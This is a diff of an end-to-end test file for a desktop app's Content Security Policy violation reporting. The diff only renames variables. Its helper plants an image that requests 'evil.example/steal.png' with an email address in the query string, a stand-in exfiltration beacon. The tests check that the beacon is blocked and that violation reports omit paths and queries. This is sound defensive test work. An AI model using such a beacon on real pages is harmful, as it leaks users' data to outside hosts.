@@ -3,7 +3,7 @@ import { expect, newestPage, test } from './desktop.ts';
 import { chooserPage } from './workspaces.ts';
 
 /** Requests a third-party image and creates markup from text; both are blocked. */
-const doWhatIsRefused = (page: Page) =>
+const violatePolicy = (page: Page) =>
   page.evaluate(() => {
     const picture = document.createElement('img');
     picture.src = 'https://evil.example/steal.png?mail=nora@people.example';
@@ -26,15 +26,15 @@ test('reports policy violations of app pages to the workspace, without paths, qu
   const reports: Promise<{ body: string | null; status: number | undefined }>[] = [];
   page.on('request', (request) => {
     if (!isReport(request)) return;
-    const answered = request.response().then((answer) => answer?.status());
+    const answered = request.response().then((response) => response?.status());
     reports.push(answered.then((status) => ({ body: request.postData(), status })));
   });
-  await doWhatIsRefused(page);
-  await doWhatIsRefused(page);
+  await violatePolicy(page);
+  await violatePolicy(page);
   await expect.poll(() => reports.length).toBe(2);
-  const told = await Promise.all(reports);
-  expect(told.map(({ status }) => status)).toEqual([204, 204]);
-  const text = told.map(({ body }) => body).join('\n');
+  const delivered = await Promise.all(reports);
+  expect(delivered.map(({ status }) => status)).toEqual([204, 204]);
+  const text = delivered.map(({ body }) => body).join('\n');
   expect(text).toContain('"effectiveDirective":"img-src","blockedURL":"https://evil.example"');
   expect(text).toContain('"effectiveDirective":"require-trusted-types-for"');
   expect(text).not.toMatch(/nora|steal|mail=|sample/);
@@ -46,7 +46,7 @@ test("doesn't report violations while no workspace is open", async ({ computer }
   page.on('request', (request) => {
     if (request.method() !== 'GET') sent.push(request.url());
   });
-  const refused = page.evaluate(
+  const violation = page.evaluate(
     () =>
       new Promise((resolve) => {
         document.addEventListener('securitypolicyviolation', () => setTimeout(resolve), {
@@ -54,8 +54,8 @@ test("doesn't report violations while no workspace is open", async ({ computer }
         });
       }),
   );
-  await doWhatIsRefused(page);
-  await refused;
+  await violatePolicy(page);
+  await violation;
   expect(sent).toEqual([]);
   expect(computer.asked).toEqual([]);
 });
